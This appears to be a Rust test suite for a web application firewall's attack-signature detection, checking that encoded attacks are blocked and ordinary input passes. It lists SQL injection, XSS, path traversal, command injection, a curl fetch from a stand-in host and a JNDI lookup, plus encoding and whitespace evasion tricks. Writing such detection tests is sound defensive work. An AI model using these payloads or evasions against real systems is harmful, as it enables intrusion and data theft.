//! `attack_signatures` through the engine: attacks stay attacks however they are spelled, honest requests pass.

use std::fmt::Write as _;
use std::sync::LazyLock;

use aiwaf_core::{Engine, Protection, Request, Settings, Timestamp};
use proptest::prelude::*;

/// Nobody is banned, so that each request is judged alone.
static ENGINE: LazyLock<Engine> = LazyLock::new(|| {
    let mut settings = Settings::default();
    settings.attack_signatures.ban_after = Some(0);
    Engine::builder().settings(settings).only([Protection::AttackSignatures]).build().unwrap()
});

const ATTACKS: [&str; 12] = [
    "1' or '1'='1",
    "-1 union select user,password from accounts",
    "x'; drop table users--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\" onfocus=alert(1) autofocus x=\"",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "$(curl http://x.example/a)",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}",
    "<?php system('id'); ?>",
];

const HONEST: [&str; 24] = [
    "running shoes",
    "O'Reilly and sons",
    "it's 5 o'clock -- or so",
    "select a colour from the list",
    "rock 'n' roll & blues",
    "a < b and c > d; e = f",
    "100% cotton (black or white)",
    "https://www.example.com/a?b=c&d=e#f",
    "{\"page\":1,\"tags\":[\"a\",\"b\"],\"q\":\"it's\"}",
    "GA1.2.1234567890.1700000000",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl",
    "<p>Hello <b>world</b>, see <a href=\"https://example.com/\">this</a></p>",
    "var total = items.map(i => i.price).join(', ');",
    "for (let i = 0; i < n; i++) { sum += x[i]; }",
    "query { user(id: 4) { name friends { name } } }",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "13\" laptop sleeve, 5' cable",
    "C:\\Users\\me\\photo.jpg",
    "me+tag@example.com",
    "2 + 2 = 4 or so",
    "AT&T; R&D",
    "please drop the table off at the office",
    "100, 200, (300)",
    "$5.00 - $10.00",
];

fn is_denied(query: &str) -> bool {
    let request = Request::new([203, 0, 113, 1].into(), Timestamp::from_unix_seconds(1.7e9))
        .with_method("GET")
        .with_path("/search")
        .with_query(query);
    !ENGINE.inspect(&request).is_allowed()
}

fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        write!(out, "%{byte:02x}").unwrap();
        out
    })
}

fn each(text: &str, encode: impl Fn(char, &mut String)) -> String {
    text.chars().fold(String::new(), |mut out, character| {
        encode(character, &mut out);
        out
    })
}

/// The ways to spell a value that detection has to see through.
fn spellings(text: &str) -> Vec<(&'static str, String)> {
    let entities = each(text, |c, out| write!(out, "&#x{:x};", u32::from(c)).unwrap());
    let wide = each(text, |c, out| write!(out, "%u{:04x}", u32::from(c)).unwrap());
    let script = each(text, |c, out| write!(out, "\\u{:04x}", u32::from(c)).unwrap());
    vec![
        ("percent", percent(text)),
        ("percent twice", percent(&percent(text))),
        ("percent three times", percent(&percent(&percent(text)))),
        ("%u", wide),
        ("entities", percent(&entities)),
        ("JavaScript escapes", percent(&script)),
        ("upper case", percent(&text.to_uppercase())),
        ("NUL between", percent(&text.replace(' ', " \0"))),
    ]
}

#[test]
fn an_attack_stays_an_attack_however_it_is_spelled() {
    let mut missed = Vec::new();
    for attack in ATTACKS {
        for (spelling, value) in spellings(attack) {
            // Only what is run as written can be in capitals.
            let case_matters = spelling == "upper case" && attack.contains("alert");
            if !case_matters && !is_denied(&format!("q={value}")) {
                missed.push(format!("{attack:?} in {spelling}"));
            }
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn what_honest_people_send_passes_however_it_is_spelled() {
    for text in HONEST {
        for (spelling, value) in spellings(text) {
            assert!(!is_denied(&format!("q={value}")), "{text:?} in {spelling}");
        }
    }
}

/// What shells and databases take for a blank.
#[test]
fn an_attack_stays_an_attack_whatever_its_blanks_are() {
    let mut missed = Vec::new();
    for attack in ["1 or true", "1; drop database x", "1 is not null", "-1 union select 1,2,3", "' or '1'='1"]
    {
        for blank in ["+", "++", "%09", "%0a", "/**/", "%a0", "%01", "%1f", "%c2%a0"] {
            // Words that stand for themselves are known by what is between them.
            let is_sql_only = matches!(blank, "%a0" | "%01" | "%1f" | "%c2%a0");
            let query = format!("q={}", attack.replace(' ', blank));
            let is_known_by_it = is_sql_only && attack.starts_with('1');
            if !is_known_by_it && !is_denied(&query) {
                missed.push(query);
            }
        }
    }
    for blank in ["+", "%09", "%0a", "%0b"] {
        let query = format!("q=cat{blank}/etc/hosts");
        if !is_denied(&query) {
            missed.push(query);
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
    assert!(!is_denied("q=d%c3%a9j%c3%a0%20vu%20or%20%c3%a0%20la%20carte"));
}

/// What comes behind thousands of fields, or deep within others, is judged by rules for whole values as well.
#[test]
fn nothing_hides_behind_many_or_deep_fields() {
    let command = percent(";id");
    assert!(is_denied(&format!("{}q={command}", "&".repeat(5_000))));
    assert!(is_denied(&format!("{}q={command}", "a&".repeat(5_000))));
    let json = [("content-type", "application/json")];
    let many = format!("{{{}\"q\":\";id\"}}", "\"\":0,".repeat(5_000));
    let deep = format!("{}\";id\"{}", "[".repeat(100), "]".repeat(100));
    for body in [many, deep] {
        let request = Request::new([203, 0, 113, 1].into(), Timestamp::from_unix_seconds(1.7e9))
            .with_method("POST")
            .with_path("/")
            .with_headers(&json)
            .with_body(body.as_bytes());
        assert!(!ENGINE.inspect(&request).is_allowed());
    }
}

/// An application that expects a form reads one, whatever else the body could be.
#[test]
fn a_form_is_judged_as_one_though_it_is_a_document_as_well() {
    let form = [("content-type", "application/x-www-form-urlencoded")];
    for (body, allowed) in [
        (r#"["&q=%3Bid&x="]"#, false),
        ("<a>&q=%3Bid&x=</a>", false),
        (r#"{"note":"I'd say a = b & that's fine"}"#, true),
    ] {
        let request = Request::new([203, 0, 113, 1].into(), Timestamp::from_unix_seconds(1.7e9))
            .with_method("POST")
            .with_path("/")
            .with_headers(&form)
            .with_body(body.as_bytes());
        assert_eq!(ENGINE.inspect(&request).is_allowed(), allowed, "{body}");
    }
}

#[test]
fn every_place_is_judged() {
    let attack = "1' or '1'='1";
    let encoded = percent(attack);
    let base = Request::new([203, 0, 113, 1].into(), Timestamp::from_unix_seconds(1.7e9)).with_method("POST");
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let json = [("content-type", "application/json")];
    let cookie = [("cookie", format!("a=b; c={encoded}"))];
    let header = [("x-any", attack)];
    let (path, name) = (format!("/a/{encoded}/b"), format!("{encoded}=1"));
    let (form_body, json_body) = (format!("a=b&c={encoded}"), format!("{{\"a\":[{{\"b\":\"{attack}\"}}]}}"));
    for (place, request, field) in [
        ("path", base.with_uri(&path), "path"),
        ("name", base.with_path("/").with_query(&name), "query parameter 1' or '1'='1"),
        ("form", base.with_path("/").with_headers(&form).with_body(form_body.as_bytes()), "body field c"),
        ("json", base.with_path("/").with_headers(&json).with_body(json_body.as_bytes()), "body field a[].b"),
        ("cookie", base.with_path("/").with_headers(&cookie), "cookie c"),
        ("header", base.with_path("/").with_headers(&header), "header x-any"),
    ] {
        let finding = ENGINE.inspect(&request).finding.unwrap_or_else(|| panic!("{place}"));
        assert_eq!(finding.matched.unwrap().field.to_string(), field, "{place}");
    }
}

proptest! {
    #[test]
    fn words_and_numbers_are_never_an_attack(text in "[a-z]{1,12}([ ,.-][A-Za-z0-9]{1,12}){0,8}") {
        // But for the names of what only attackers ask for, which chance does not hit upon.
        prop_assert!(!is_denied(&format!("q={}", percent(&text))), "{}", text);
    }

    #[test]
    fn an_attack_is_found_behind_and_before_honest_text(index in 0..3usize, before in "[a-z ]{0,30}") {
        let attack = ["<script>alert(1)</script>", "${jndi:ldap://x.example/a}", "<img src=x onerror=alert(1)>"];
        let text = [&before, attack[index], &before].concat();
        prop_assert!(is_denied(&format!("q={}", percent(&text))), "{}", text);
    }
}
